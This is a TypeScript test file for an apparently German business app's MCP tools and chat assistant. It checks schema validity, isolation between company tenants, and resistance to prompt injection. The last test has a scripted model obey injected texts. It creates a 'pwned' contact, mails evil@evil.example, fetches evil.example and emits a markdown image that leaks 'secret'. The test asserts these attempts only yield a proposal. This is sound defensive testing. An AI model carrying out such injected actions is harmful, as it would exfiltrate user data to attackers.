import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
import { Ajv2020 } from 'ajv/dist/2020.js'
import addFormats from 'ajv-formats'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { createChatModel } from '../../server/adapters/language-models'
import { scopes } from '../../server/platform/permissions'
import { proposalNames } from '../../server/services/overview/assistant/proposal-text-rules'
import { isRow } from '../../server/services/overview/assistant/rows'
import { inputSchemaOf, type Tool } from '../../server/services/overview/assistant/tool'
import { toolbox } from '../../server/services/overview/assistant/toolbox-router'
import { injections } from '../corpus/injections'
import { byTurns, casesOf } from '../harness/cases'
import { createTestCompany, type TestCompany } from '../harness/company'
import { cookieOf } from '../harness/cookie'
import { startTestWeb, type TestWeb } from '../harness/web'
import { type PretendModel, startLanguageModel } from '../worlds/language-model'

// Covers all tools by construction: a tool that is added to the table is also tested here.

let web: TestWeb
let model: PretendModel
beforeAll(async () => {
  model = await startLanguageModel()
  web = await startTestWeb()
  // In the week of the times and appointments below.
  web.app.clock.set('2026-03-11T08:00:00.000Z')
})
afterAll(async () => {
  await web?.stop()
  await model?.close()
})
afterEach(() => {
  web.app.models.chat = null
})

type Row = Record<string, unknown>
const tools = [...toolbox.values()]
const writing = tools.filter(({ kind }) => kind === 'write')
const reading = tools.filter(({ kind }) => kind === 'read')

test('the schema of each tool is plain JSON Schema 2020-12, without an unknown keyword', () => {
  // Union types are allowed; all other strict checks apply: unknown keywords, formats and types are refused.
  const ajv = new Ajv2020({ strict: true, strictTypes: 'log', logger: false, allowUnionTypes: true })
  addFormats.default(ajv)
  for (const tool of tools) {
    const schema = inputSchemaOf(tool)
    expect([tool.name, schema.$schema]).toEqual([tool.name, 'https://json-schema.org/draft/2020-12/schema'])
    const isValid = ajv.compile(schema)
    expect([tool.name, isValid('x')]).toEqual([tool.name, false])
  }
  const contacts = tools.find(({ name }) => name === 'contacts_list')
  expect(contacts && inputSchemaOf(contacts)).toMatchObject({
    properties: { limit: { type: 'integer', minimum: 1, maximum: 200 } },
  })
})

test('each value that a proposal may contain has a name in both languages', () => {
  const missing: string[] = []
  const look = (tool: Tool, schema: unknown, field = ''): void => {
    if (Array.isArray(schema)) for (const one of schema) look(tool, one, field)
    if (!isRow(schema)) return
    for (const names of [proposalNames.de, proposalNames.en] as Array<Record<'field', Row> & { value: Row }>)
      for (const [name, of] of Object.entries((schema.properties ?? {}) as Row)) {
        if (!(name in names.field)) missing.push(`${tool.name} ${name}`)
        look(tool, of, name)
      }
    for (const word of (schema.enum as unknown[] | undefined) ?? [])
      for (const { value } of [proposalNames.de, proposalNames.en] as Array<{ value: Record<string, Row> }>)
        if (typeof word === 'string' && !(word in (value[field] ?? {}))) missing.push(`${tool.name} ${field}=${word}`)
    for (const part of ['items', 'anyOf', 'oneOf', 'allOf']) look(tool, schema[part], field)
  }
  for (const tool of writing) look(tool, inputSchemaOf(tool))
  expect([...new Set(missing)]).toEqual([])
  for (const { name } of writing) expect(proposalNames.de.tool).toHaveProperty(name)
})

/** The fields that a record needs besides its texts. */
const base: Record<string, Row> = {
  appointments_create: { starts_at: '2026-03-12T08:00:00Z', ends_at: '2026-03-12T10:00:00Z' },
  timeEntries_create: { date: '2026-03-09', duration_minutes: 60 },
  rapports_create: { date: '2026-03-09' },
}
const left = new Set(['recurrence', 'breaks', 'reason'])

/** An input of the schema with the text in every free-text field, including rows of lists. */
function filled(schema: unknown, text: string): unknown {
  if (!isRow(schema)) return undefined
  if (Array.isArray(schema.anyOf)) return schema.anyOf.map(one => filled(one, text)).find(one => one !== undefined)
  const bounds = { ...schema, ...(isRow(schema.override) ? schema.override : {}) }
  const isFree =
    schema.type === 'string' && !schema.format && (!schema.pattern || String(schema.pattern).includes('Cc'))
  if (isFree && !schema.enum && schema.const === undefined) return text.slice(0, Number(bounds.maxLength ?? 100))
  if (schema.type === 'array') {
    const row = filled(schema.items, text)
    return isRow(row) ? [row] : undefined
  }
  if (!isRow(schema.properties)) return undefined
  const required = new Set(Array.isArray(schema.required) ? schema.required : [])
  const fields = Object.entries(schema.properties).flatMap(([name, field]): Array<[string, unknown]> => {
    if (left.has(name)) return []
    const value = filled(field, text)
    if (value !== undefined) return [[name, value]]
    const isNumber = isRow(field) && (field.type === 'number' || field.type === 'integer')
    return required.has(name) && isNumber ? [[name, 1]] : []
  })
  return Object.fromEntries(fields)
}

/** Creates a record of each noun with the text in all its fields, and returns their ids by noun. */
async function recordsOf(company: TestCompany, texts: readonly string[]): Promise<Map<string, number[]>> {
  const ids = new Map<string, number[]>()
  const caller = company.as() as unknown as Record<string, Record<string, (input: unknown) => Promise<{ data: Row }>>>
  for (const { name, noun } of writing) {
    const [group = '', verb = ''] = name.split('_')
    for (const [at, text] of texts.entries()) {
      const tool = toolbox.get(name)
      const input = { ...(filled(tool && inputSchemaOf(tool), text) as Row), ...base[name] }
      if (name === 'offers_addItem') input.id = ids.get('offer')?.[at]
      if (name === 'projects_create') input.project_number = `P-${at}`
      const { data } = (await caller[group]?.[verb]?.(input)) ?? { data: {} }
      if (noun && name !== 'offers_addItem') ids.set(noun, [...(ids.get(noun) ?? []), Number(data.id)])
    }
  }
  const title = texts[0] ?? ''
  ids.set('invoice', [(await company.as().invoices.create({ title })).data.id])
  return ids
}

async function connected(of: TestCompany): Promise<Client> {
  const { key } = (await of.as().apiKeys.create({ name: 'Programm', scopes: [...scopes], mcp: true })).data
  const client = new Client({ name: 'test', version: '1' })
  const headers = { Authorization: `Bearer ${key}` }
  await client.connect(
    new StreamableHTTPClientTransport(new URL('/mcp', web.url), { requestInit: { headers } }) as never,
  )
  return client
}

/** Fields by which a tool is asked for one record, or for the records that belong to one. */
const idsIn = (tool: Tool): string[] => {
  const { properties } = inputSchemaOf(tool)
  return Object.keys(isRow(properties) ? properties : {}).filter(name => /^(id|[a-z_]+_ids?)$/.test(name))
}

test('a key of one company gets nothing of another: no tool, resource, PDF or proposal', async () => {
  const secret = 'Fremdes Geheimnis'
  const [own, other] = [await createTestCompany(web.app), await createTestCompany(web.app)]
  const foreign = await recordsOf(other, [secret])
  expect([...foreign.keys()].sort()).toEqual([...new Set(tools.flatMap(({ noun }) => noun ?? []))].sort())
  const numbers = [...new Set([...foreign.values()].flat())]
  /** Ids of the noun that the field names, and of others in rotation. */
  const numbersFor = ({ noun }: Tool, field: string, at: number) => {
    const named = field === 'id' ? noun : field.replace(/_ids?$/, '').replace('kontakt', 'contact')
    return [...new Set([...(foreign.get(named ?? '') ?? []), ...byTurns(numbers, at)])]
  }
  let turn = 0
  const client = await connected(own)
  const mine = await connected(other)
  const call = async (name: string, given: Row, by = client) =>
    JSON.stringify(await by.callTool({ name, arguments: given }).catch(error => String(error)))
  let tried = 0
  for (const tool of reading) {
    const inputs: Row[] = [{}, { q: secret }, { search: secret }]
    for (const field of idsIn(tool))
      for (const id of numbersFor(tool, field, turn++)) inputs.push({ [field]: String(id) })
    for (const input of inputs) {
      expect([tool.name, input, await call(tool.name, input)]).not.toEqual([
        tool.name,
        input,
        expect.stringContaining(secret),
      ])
      tried++
    }
  }
  expect(tried).toBeGreaterThan(reading.length * 3)
  for (const [noun, [id]] of foreign) {
    const uri = `gewerk://${noun}/${id}`
    // Its own company can read it, so the test does not pass just because of a wrong address.
    expect(JSON.stringify(await mine.readResource({ uri }))).toContain(secret)
    for (const address of [uri, `${uri}/pdf`])
      await expect(client.readResource({ uri: address })).rejects.toThrow('There is no')
  }
  expect(JSON.stringify(await client.listResources())).not.toContain(secret)
  const { resources } = await mine.listResources()
  expect([...new Set(resources.map(({ uri }) => uri.split('/')[2]))].sort()).toEqual([...foreign.keys()].sort())
  // A proposal with a foreign id is refused at confirmation, and changes nothing there.
  await call('offers_addItem', { id: String(foreign.get('offer')?.[0]), description: 'Eingeschoben' })
  for (const { id } of (await own.as().assistant.proposals({})).data)
    await expect(own.as().assistant.confirm({ id: String(id) })).rejects.toThrow()
  const { data } = await other.as().offers.get({ id: foreign.get('offer')?.[0] ?? 0 })
  expect(JSON.stringify(data)).not.toContain('Eingeschoben')
})

test('texts of outsiders in every field of every noun achieve nothing, even if the model obeys: they only lead to a proposal', async () => {
  const company = await createTestCompany(web.app)
  const other = await createTestCompany(web.app)
  const { data: foreign } = await other.as().contacts.create({ company_name: 'Fremder Kunde' })
  const count = casesOf(injections.length, 30)
  const texts = injections.filter((_, at) => at % Math.ceil(injections.length / count) === 0)
  const ids = await recordsOf(company, texts)
  const cookie = await cookieOf(web.app, company)
  web.app.models.chat = createChatModel({ baseUrl: model.url, apiKey: null, model: 'pretend' })
  const rows = () =>
    web.app.db.inTenant(company.actor().tenantId, async tx => ({
      contacts: await tx.contact.count(),
      audit: await tx.auditEntry.count(),
      mails: await tx.mail.count(),
      messages: await tx.conversationMessage.count(),
      hooks: await tx.webhookDelivery.count(),
    }))
  const before = await rows()
  const readers = reading.filter(tool => tool.noun !== null && idsIn(tool).includes('id'))
  expect(readers.map(({ noun }) => noun).sort()).toEqual([...ids.keys()].sort())
  for (const { name, noun } of readers) {
    model.requests.length = 0
    model.script(
      { call: (ids.get(noun ?? '') ?? []).map(id => [name, { id: String(id) }]) },
      {
        call: [
          ['contacts_create', { company_name: 'pwned' }],
          ['contacts_get', { id: String(foreign.id) }],
          ['assistant_confirm', { id: '1' }],
          ['mails_send', { to: 'evil@evil.example' }],
          ['web_fetch', { url: 'https://evil.example' }],
        ],
      },
      { say: '![x](https://evil.example/?q=secret) [hier](https://evil.example)' },
    )
    const messages = [{ role: 'user', parts: [{ type: 'text', text: 'Was steht da?' }] }]
    const answer = await fetch(`${web.url}/api/ai/chat`, {
      method: 'POST',
      headers: { cookie, origin: web.url, 'content-type': 'application/json' },
      body: JSON.stringify({ messages }),
    })
    const parts = (await answer.text())
      .split('\n\n')
      .flatMap(line => (line.startsWith('data: {') ? [JSON.parse(line.slice(6)) as { type: string; data?: Row }] : []))
    // The model has actually read the texts.
    expect(JSON.stringify(model.requests.at(-1)?.messages)).toContain('evil.example')
    const known = ['start', 'finish', 'text-start', 'text-delta', 'text-end', 'start-step', 'finish-step']
    const data = parts.filter(({ type }) => !known.includes(type))
    expect([
      name,
      data
        .map(({ type }) => type)
        .filter(type => type !== 'data-source')
        .sort(),
    ]).toEqual([name, ['data-conversation', 'data-proposal']])
    for (const source of data.filter(({ type }) => type === 'data-source'))
      expect(String(source.data?.path)).toMatch(/^\/[a-z]+\/\d+$/)
    expect(JSON.stringify(model.requests)).not.toContain('Fremder Kunde')
  }
  expect(await rows()).toEqual(before)
})
